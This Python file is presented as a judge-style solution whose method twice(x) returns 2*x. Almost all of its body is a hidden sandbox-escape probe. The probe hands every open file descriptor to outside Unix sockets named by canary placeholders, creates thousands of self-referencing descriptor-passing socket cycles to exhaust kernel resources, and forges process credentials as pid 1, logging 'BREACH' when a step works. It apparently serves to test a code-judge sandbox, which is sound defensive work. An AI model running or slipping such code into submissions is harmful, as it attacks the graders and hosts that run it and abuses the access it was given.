import array
import os
import socket
import sys

ADDRESSES = ["\0@CANARY_ABSTRACT@", "@CANARY_SOCKET@", "\0@MARK@"]


class Solution:
    def twice(self, x):
        # To the host, and to itself: the judge's channel into a socket's queue, which a circle keeps alive for ever.
        open_ones = [fd for fd in range(1024) if self.is_open(fd)]
        for address in ADDRESSES:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as one:
                try:
                    one.connect(address)
                    socket.send_fds(one, [b"x"], open_ones)
                    print("BREACH: gave descriptors away", file=sys.stderr)
                except OSError as error:
                    print("connect:", error.strerror, file=sys.stderr)
        circles = 0
        try:
            for circles in range(10000):
                left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
                socket.send_fds(left, [b"x"], [left.fileno(), right.fileno(), *open_ones[:5]])
                socket.send_fds(right, [b"x"], [left.fileno(), right.fileno()])
                left.close()
                right.close()
        except OSError as error:
            print("after", circles, "circles:", error.strerror, file=sys.stderr)
        try:  # as if it were somebody else
            left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            left.sendmsg([b"x"], [(socket.SOL_SOCKET, 2, array.array("i", [1, os.getuid(), os.getgid()]))])
            print("BREACH: forged credentials", file=sys.stderr)
        except OSError as error:
            print("credentials:", error.strerror, file=sys.stderr)
        print("passed", len(open_ones), "descriptors", file=sys.stderr)
        return 2 * x

    def is_open(self, fd):
        try:
            os.fstat(fd)
            return True
        except OSError:
            return False
